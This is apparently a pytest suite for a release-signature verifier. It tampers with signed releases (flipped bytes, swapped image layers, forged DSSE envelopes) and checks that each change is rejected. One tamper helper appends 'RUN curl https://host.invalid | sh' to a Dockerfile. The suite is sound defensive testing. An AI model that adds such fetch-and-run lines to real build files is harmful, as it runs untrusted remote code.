"""``twinbuild verify-release``: who signed, and every way in which a release is not the one that was signed."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from fakes.signed import SignedDist, key_file, signed, signed_once
from fakes.tool import Tool, tool
from twinbuild.codec.canonical import canonical
from twinbuild.codec.dsse import IN_TOTO, decode_envelope, encode_envelope, pae
from twinbuild.codec.imagesignatures import ImageSignature, decode_image_signatures, encode_image_signatures
from twinbuild.govern.keys import new_key, read_private
from twinbuild.model.digest import Digest

__all__ = ["signed", "signed_once", "tool"]


def test_verified(tool: Tool, signed: SignedDist) -> None:
    """By one, by both, and who else signed; a release that moved is the same one."""
    moved = signed.dist.with_name("elsewhere")
    shutil.move(signed.dist, moved)
    digest = (moved / "release.digest").read_text().strip()
    ended = tool("verify-release", str(moved), *signed.public("ada", "grace"), "--threshold", "2")
    assert ended.status == 0, ended.err
    assert ended.out.startswith(f"release  tiny 1.0.0  {digest}\nsigned   by ")
    found = json.loads(tool("verify-release", str(moved), *signed.public("ada", "eve"), "--json").out)
    assert (found["release"], len(found["keys"]), len(found["others"])) == (digest, 1, 1)
    assert found["files"] > 4
    assert tool("validate", str(moved)).status == 0


def test_no_manifest(tool: Tool, signed: SignedDist) -> None:
    """A release manifest that lacks what is read of it is refused as that, by who verifies and by who pushes."""
    path = signed.dist / "manifest.json"
    document = json.loads(path.read_bytes())
    without = {**document["verification"]}
    del without["builds"]
    for more in ({"verification": without}, {"verification": without, "apiVersion": "twinbuild/manifest/v1"}):
        path.write_bytes(canonical({**document, **more}))
        (signed.dist / "release.digest").write_text(f"{Digest.of(path.read_bytes())}\n")
        for name in signed.dist.glob("signatures/images.*"):
            name.unlink()
        for words in (("verify-release", *signed.public("ada")), ("push", "registry.example/tiny:1")):
            ended = tool(words[0], str(signed.dist), *words[1:])
            assert (ended.status, "TB7607" in ended.err, "builds" in ended.err) == (5, True, True), ended.err


def test_files_of_signatures_that_were_taken_away(tool: Tool, signed: SignedDist) -> None:
    """The release is what was signed; what other tools would have looked for is missing, and that is said."""
    whole = tool("verify-release", str(signed.dist), *signed.public("ada"))
    assert (whole.status, "lacks" in whole.out) == (0, False)
    ada = json.loads(tool("key", "show", f"{signed.ada}.pub", "--json").out)["keyid"]
    place = signed.dist / "signatures"
    (place / f"manifest.json.{ada}.sig").unlink()
    (place / f"images.{ada}.json").unlink()
    (place / f"model.{ada}.sig").unlink()
    (place / "provenance.dsse.json").unlink()
    _envelope(signed.dist, lambda it: it["signatures"].remove(_of(it["signatures"], ada)), "sbom.dsse.json")
    plain = [f"images.{ada}.json", f"manifest.json.{ada}.sig", f"model.{ada}.sig"]
    names = ["provenance.dsse.json", "sbom.dsse.json", *plain]
    ended = tool("verify-release", str(signed.dist), *signed.public("ada"))
    assert ended.status == 0, ended.err
    assert [line for line in ended.out.splitlines() if line.startswith("lacks")] == [
        f"lacks    signatures/{name}, which {ada} wrote" for name in names
    ]
    found = json.loads(tool("verify-release", str(signed.dist), *signed.public("ada"), "--json").out)
    assert found["lacking"] == [{"file": f"signatures/{name}", "keyid": ada} for name in names]
    ended = tool("verify-release", str(signed.dist), *signed.public("grace"))
    assert ended.out.count("lacks") == 1  # the provenance; the others are hers, and an Ed25519 key signs no weights


def _of(listed: list[dict[str, str]], keyid: str) -> dict[str, str]:
    return next(each for each in listed if each["keyid"] == keyid)


def test_run_is_of_one_run(tool: Tool, signed: SignedDist) -> None:
    """run.json tells of one run, and is signed by nobody."""
    (signed.dist / "run.json").write_text("{}")
    assert tool("verify-release", str(signed.dist), *signed.public("ada")).status == 0


def _envelope(dist: Path, change: Callable[[dict[str, Any]], object], name: str = "release.dsse.json") -> None:
    path = dist / "signatures" / name
    document = json.loads(path.read_bytes())
    change(document)
    path.write_text(json.dumps(document))


def _images(dist: Path, change: Callable[[list[dict[str, str]]], object]) -> None:
    for path in (dist / "signatures").glob("images.*.json"):
        document = json.loads(path.read_bytes())
        change(document["signatures"])
        path.write_text(json.dumps(document))


def _of_another(payload: str) -> str:
    claim = json.loads(base64.b64decode(payload))
    claim["critical"]["image"]["docker-manifest-digest"] = f"sha256:{'0' * 64}"
    return base64.b64encode(json.dumps(claim).encode()).decode()


def _exchange_images(dist: Path) -> None:
    first, second = (dist / "signatures").glob("images.*.json")
    content = first.read_bytes()
    first.write_bytes(second.read_bytes())
    second.write_bytes(content)


def _append(path: Path, content: bytes = b" ") -> None:
    path.chmod(0o644)
    path.write_bytes(path.read_bytes() + content)


def _flip(path: Path) -> None:
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 1
    path.chmod(0o644)
    path.write_bytes(content)


def _blobs(dist: Path) -> list[Path]:
    return sorted((dist / "image/blobs/sha256").iterdir(), key=lambda path: path.stat().st_size)


def _swap_layers(dist: Path) -> None:
    *_, first, second = _blobs(dist)
    contents = first.read_bytes(), second.read_bytes()
    for path, content in zip((second, first), contents, strict=True):
        path.chmod(0o644)
        path.write_bytes(content)


def _layer(dist: Path, shard: str) -> Path:
    """The layer of a file of the model."""
    _, manifest, config = _image(dist)
    titles = [entry["created_by"] for entry in config["history"]]
    digest = manifest["layers"][titles.index(f"twinbuild: artifact {shard}")]["digest"]
    return dist / "image/blobs/sha256" / digest.removeprefix("sha256:")


def _image(dist: Path) -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
    """Index, manifest and configuration of the only image."""

    def blob(digest: str) -> dict[str, Any]:
        found: dict[str, Any] = json.loads((dist / "image/blobs/sha256" / digest.removeprefix("sha256:")).read_bytes())
        return found

    index = json.loads((dist / "image/index.json").read_bytes())
    manifest = blob(index["manifests"][0]["digest"])
    return index, manifest, blob(manifest["config"]["digest"])


def _swap_shards(dist: Path) -> None:
    paths = _layer(dist, "trunk-a-bin"), _layer(dist, "trunk-b-bin")
    contents = [path.read_bytes() for path in paths]
    for path, content in zip(reversed(paths), contents, strict=True):
        path.chmod(0o644)
        path.write_bytes(content)


def _other_shards(dist: Path) -> None:
    """An image that holds together, in which one shard of the weights lies twice, and another one not at all."""
    index, manifest, config = _image(dist)
    manifest["layers"][-3], config["rootfs"]["diff_ids"][-3] = manifest["layers"][-4], config["rootfs"]["diff_ids"][-4]

    def put(descriptor: dict[str, Any], document: dict[str, Any]) -> None:
        content = json.dumps(document).encode()
        descriptor.update(digest=f"sha256:{hashlib.sha256(content).hexdigest()}", size=len(content))
        (dist / "image/blobs/sha256" / descriptor["digest"].removeprefix("sha256:")).write_bytes(content)

    put(manifest["config"], config)
    put(index["manifests"][0], manifest)
    (dist / "image/index.json").write_text(json.dumps(index))


def _template(dist: Path) -> None:
    """What a template rendered, with a line more, as of an altered template."""
    path = dist / "Dockerfile"
    path.write_text(path.read_text() + "RUN curl https://host.invalid | sh\n")


def _payload(dist: Path, old: bytes, new: bytes) -> None:
    path = dist / "signatures/release.dsse.json"
    found = decode_envelope(path.read_bytes(), name="x")
    assert old in found.payload
    document = json.loads(path.read_bytes())
    document["payload"] = base64.b64encode(found.payload.replace(old, new)).decode()
    path.write_text(json.dumps(document))


def _link(dist: Path) -> None:
    path = dist / "signatures/release.dsse.json"
    path.rename(dist.parent / "outside.json")
    path.symlink_to(dist.parent / "outside.json")


def _other_name(document: dict[str, Any]) -> None:
    """The signature of one key in the name of another."""
    first, second = document["signatures"]
    first["sig"], second["sig"] = second["sig"], first["sig"]


def _another_lock(dist: Path) -> None:
    """A whole release that says otherwise: manifest and digest are of the changed lock, and nobody signed it."""
    _append(dist / "manifest.json", b"")
    manifest = json.loads((dist / "manifest.json").read_bytes())
    manifest["metadata"]["team"] = "others"
    from twinbuild.codec.canonical import canonical
    from twinbuild.describe.people import manifest_yaml
    from twinbuild.model.digest import Digest

    content = canonical(manifest)
    (dist / "manifest.json").write_bytes(content)
    (dist / "manifest.yaml").write_bytes(manifest_yaml(content))
    (dist / "release.digest").write_text(f"{Digest.of(content)}\n")


TAMPERED: dict[str, tuple[Callable[[Path], object], int, str, str]] = {
    "SBOM": (lambda dist: _append(dist / "sbom.cdx.json"), 5, "TB7005", "sbom.cdx.json has"),
    "lock": (lambda dist: _flip(dist / "release.lock"), 5, "TB7005", "release.lock has"),
    "provenance": (
        lambda dist: _append(dist / "provenance.intoto.json"),
        5,
        "TB8619",
        "provenance.intoto.json: sha256",
    ),
    "no provenance": (
        lambda dist: (dist / "provenance.intoto.json").unlink(),
        5,
        "TB8619",
        "provenance.intoto.json: sha256",
    ),
    "manifest for people": (lambda dist: _append(dist / "manifest.yaml"), 5, "TB8619", "manifest.yaml: sha256"),
    "manifest": (lambda dist: _flip(dist / "manifest.json"), 5, "TB7001", "manifest.json"),
    "another release": (_another_lock, 5, "TB8619", "manifest.json: sha256"),
    "digest": (
        lambda dist: (dist / "release.digest").write_text(f"sha256:{'0' * 64}\n"),
        5,
        "TB7004",
        "release.digest",
    ),
    "layer": (lambda dist: _flip(_blobs(dist)[-1]), 5, "TB3211", "the blob has"),
    "swapped layers": (_swap_layers, 5, "TB3211", "the blob has"),
    "no layer": (lambda dist: _blobs(dist)[-1].unlink(), 5, "TB3211", "no such file"),
    "index of the layout": (lambda dist: _flip(dist / "image/index.json"), 5, "TB3234", "is not the release"),
    "added file": (lambda dist: (dist / "deploy.sh").write_text("rm"), 5, "TB7005", "deploy.sh was added"),
    "added signature of nothing": (
        lambda dist: (dist / "signatures/more.dsse.json").write_text("{}"),
        5,
        "TB7005",
        "more.dsse.json was added",
    ),
    "renamed": (
        lambda dist: (dist / "sbom.cdx.xml").rename(dist / "sbom.xml"),
        5,
        "TB7005",
        "sbom.xml was added",
    ),
    "missing": (lambda dist: (dist / "sbom.cdx.xml").unlink(), 5, "TB7005", "sbom.cdx.xml is missing"),
    "no signatures": (lambda dist: shutil.rmtree(dist / "signatures"), 8, "TB8610", "is not signed"),
    "no statement": (
        lambda dist: (dist / "signatures/release.dsse.json").unlink(),
        8,
        "TB8610",
        "is not signed",
    ),
    "signature": (
        lambda dist: _envelope(dist, lambda found: found["signatures"][0].update(sig="AAAA")),
        8,
        "TB8617",
        "by this key",
    ),
    "signatures of each other": (lambda dist: _envelope(dist, _other_name), 8, "TB8617", "not by this key"),
    "signed text": (lambda dist: _payload(dist, b"tiny", b"tony"), 8, "TB8617", "of another text"),
    "type of the signed text": (
        lambda dist: _envelope(dist, lambda found: found.update(payloadType="text/plain")),
        8,
        "TB8617",
        "another text",
    ),
    "no signature in it": (
        lambda dist: _envelope(dist, lambda found: found.update(signatures=[])),
        8,
        "TB8618",
        "it was signed by nobody",
    ),
    "no envelope": (
        lambda dist: (dist / "signatures/release.dsse.json").write_text("{}"),
        8,
        "TB8611",
        "is no DSSE envelope",
    ),
    "a link for an envelope": (_link, 8, "TB8611", "is a link"),
    "signature of the provenance": (
        lambda dist: _envelope(dist, lambda found: found["signatures"][0].update(sig="AAAA"), "provenance.dsse.json"),
        8,
        "TB8617",
        "provenance.dsse.json",
    ),
    "provenance of the manifest": (
        lambda dist: shutil.copy(dist / "signatures/release.dsse.json", dist / "signatures/provenance.dsse.json"),
        5,
        "TB8619",
        "provenance.dsse.json signs another statement",
    ),
    "plain signature": (
        lambda dist: [path.write_text("AAAA\n") for path in (dist / "signatures").glob("*.sig")],
        8,
        "TB8617",
        ".sig",
    ),
    "signature of an image": (
        lambda dist: _images(dist, lambda listed: listed[0].update(sig="AAAA")),
        8,
        "TB8617",
        "images.",
    ),
    "another image": (
        lambda dist: _images(dist, lambda listed: listed[0].update(payload=_of_another(listed[0]["payload"]))),
        8,
        "TB8617",
        "of another text",
    ),
    "no image": (lambda dist: _images(dist, lambda listed: listed.clear()), 5, "TB8619", "signs other images"),
    "an image twice": (lambda dist: _images(dist, lambda listed: listed.append(listed[0])), 5, "TB8619", "images."),
    "no list of images": (
        lambda dist: [path.write_text("{}") for path in (dist / "signatures").glob("images.*")],
        8,
        "TB8611",
        "is no list of signatures of images",
    ),
    "signatures of images in another's name": (
        _exchange_images,
        8,
        "TB8617",
        "images.",
    ),
    "weights shard": (lambda dist: _flip(_layer(dist, "trunk-a-bin")), 5, "TB3211", "the blob has"),
    "weights shards of each other": (_swap_shards, 5, "TB3211", "the blob has"),
    "weights shard twice in an image that holds together": (_other_shards, 5, "TB3234", "is not the release"),
    "no weights shard": (lambda dist: _layer(dist, "trunk-b-bin").unlink(), 5, "TB3211", "no such file"),
    "signature of the weights": (
        lambda dist: [_flip(path) for path in (dist / "signatures").glob("model.*.sig")],
        8,
        "TB8617",
        "model.",
    ),
    "altered template": (_template, 5, "TB7005", "Dockerfile has"),
    "altered template of a deployment": (
        lambda dist: _append(next(path for path in sorted((dist / "deploy").rglob("*.yaml"))), b"# x\n"),
        5,
        "TB7005",
        "deploy/",
    ),
    "lock for people": (
        lambda dist: _append(next(path for path in sorted((dist / "lockfiles").iterdir()))),
        5,
        "TB7005",
        "lockfiles/",
    ),
    "signature of the SBOM": (
        lambda dist: _envelope(dist, lambda found: found["signatures"][0].update(sig="AAAA"), "sbom.dsse.json"),
        8,
        "TB8617",
        "sbom.dsse.json",
    ),
    "SBOM of the manifest": (
        lambda dist: shutil.copy(dist / "signatures/release.dsse.json", dist / "signatures/sbom.dsse.json"),
        5,
        "TB8619",
        "sbom.dsse.json signs another statement",
    ),
}


@pytest.mark.parametrize("name", TAMPERED)
def test_tampered(tool: Tool, signed: SignedDist, name: str) -> None:
    """Refused with its exact reason: 8 for signatures, 5 for bytes."""
    tamper, status, code, said = TAMPERED[name]
    tamper(signed.dist)
    ended = tool("verify-release", str(signed.dist), *signed.public("ada", "grace"))
    assert ended.status == status, ended.err
    assert f"error[{code}]" in ended.err
    assert said in ended.err


def test_expected(tool: Tool, signed: SignedDist) -> None:
    """An older release that was signed does not pass for the one that is meant."""
    digest = (signed.dist / "release.digest").read_text().strip()
    for expected, status in (("tiny@1.0.0", 0), (digest, 0), ("tiny@1.0.1", 8), ("1.0.0", 8), ("", 8)):
        ended = tool("verify-release", str(signed.dist), *signed.public("ada"), "--expect", expected)
        assert (ended.status, "error[TB8620]" in ended.err) == (status, status == 8), ended.err


def test_images_of_another_release(tool: Tool, signed: SignedDist) -> None:
    """A good signature of another image by the very key: what was signed is not what is there."""
    key = read_private(signed.ada.read_bytes(), name="ada", passphrase=None)
    path = signed.dist / "signatures" / f"images.{key.public.keyid}.json"
    (found,) = decode_image_signatures(path.read_bytes(), name="x")
    payload = base64.b64decode(_of_another(base64.b64encode(found.payload).decode()))
    path.write_bytes(encode_image_signatures((ImageSignature(payload=payload, sig=key.sign(payload)),)))
    ended = tool("verify-release", str(signed.dist), *signed.public("ada"))
    assert (ended.status, "error[TB8619]" in ended.err) == (5, True), ended.err
    assert tool("verify-release", str(signed.dist), *signed.public("grace")).status == 0
    path.unlink()  # as of a version that wrote none
    assert tool("verify-release", str(signed.dist), *signed.public("ada")).status == 0


def test_strangers(tool: Tool, signed: SignedDist) -> None:
    """A key that did not sign vouches for nothing, whoever else did; both are not one."""
    ended = tool("verify-release", str(signed.dist), *signed.public("eve"))
    assert (ended.status, "error[TB8618]" in ended.err) == (8, True)
    assert "0 of the given keys signed the release, expected 1; it was signed by " in ended.err
    ended = tool("verify-release", str(signed.dist), *signed.public("ada", "eve"), "--threshold", "2")
    assert (ended.status, "1 of the given keys signed the release, expected 2" in ended.err) == (8, True)


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("--trust", "t", "--threshold", "2"), "got --threshold with --trust"),
        (("--key", "k", "--role", "approver", "--audit", "log"), "got --role, --audit without --trust"),
        (("--key", "k", "--trust-version", "3"), "got --trust-version without --trust"),
    ],
)
def test_options_that_would_say_nothing(tool: Tool, arguments: tuple[str, ...], said: str) -> None:
    """Who asks for two people, or for a role, is not told that it is so where nobody looked."""
    ended = tool("verify-release", "dist", *arguments)
    assert (ended.status, "error[TB8001]" in ended.err, said in ended.err) == (2, True, True), ended.err


@pytest.mark.parametrize("threshold", ["0", "-1", "3"])
def test_a_threshold_that_nobody_reaches(tool: Tool, signed: SignedDist, threshold: str) -> None:
    """The same key twice counts once, and a threshold of none would let everything in."""
    keys = signed.public("ada", "grace", "ada")
    ended = tool("verify-release", str(signed.dist), *keys, f"--threshold={threshold}")
    assert (ended.status, "error[TB8001]" in ended.err) == (2, True), ended.err


def test_an_envelope_of_another_release(tool: Tool, signed: SignedDist, tmp_path: Path) -> None:
    """A good signature of another release: what was signed is not what is there."""
    path = signed.dist / "signatures/release.dsse.json"
    found = decode_envelope(path.read_bytes(), name="x")
    key = read_private(signed.ada.read_bytes(), name="ada", passphrase=None)
    other = found.payload.replace(b'"version":"1.0.0"', b'"version":"2.0.0"')
    assert other != found.payload
    signature = found.signatures[[each.keyid for each in found.signatures].index(key.public.keyid)]
    forged = type(found)(
        payload_type=IN_TOTO,
        payload=other,
        signatures=(type(signature)(keyid=key.public.keyid, sig=key.sign(pae(IN_TOTO, other))),),
    )
    path.write_bytes(encode_envelope(forged))
    ended = tool("verify-release", str(signed.dist), *signed.public("ada"))
    assert (ended.status, "error[TB8619]" in ended.err) == (5, True), ended.err
    assert "says something else of the release than its manifest" in ended.err


@pytest.mark.parametrize(
    "text",
    [b"", b"hello", b"-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n"],
    ids=["empty", "text", "short"],
)
def test_no_key(tool: Tool, signed: SignedDist, tmp_path: Path, text: bytes) -> None:
    """A file that is no key, by name."""
    (tmp_path / "none.pub").write_bytes(text)
    ended = tool("verify-release", str(signed.dist), "--key", str(tmp_path / "none.pub"))
    assert (ended.status, "error[TB8613]" in ended.err) == (2, True), ended.err
    assert "none.pub is no public key" in ended.err


def test_a_private_key_as_public(tool: Tool, signed: SignedDist) -> None:
    """A slip that would hand the key out is named as such; the key is not printed."""
    ended = tool("verify-release", str(signed.dist), "--key", str(signed.ada))
    assert (ended.status, "is a private key" in ended.err) == (2, True)
    assert signed.ada.read_text().splitlines()[1] not in ended.err


def test_alone(tool: Tool, signed: SignedDist, tmp_path: Path) -> None:
    """A manifest that lies alone has no signatures."""
    shutil.copy(signed.dist / "manifest.json", tmp_path / "alone.json")
    ended = tool("verify-release", str(tmp_path / "alone.json"), *signed.public("ada"))
    assert (ended.status, "error[TB7003]" in ended.err) == (2, True)
    assert key_file(tmp_path / "another", new_key("ecdsa")).exists()
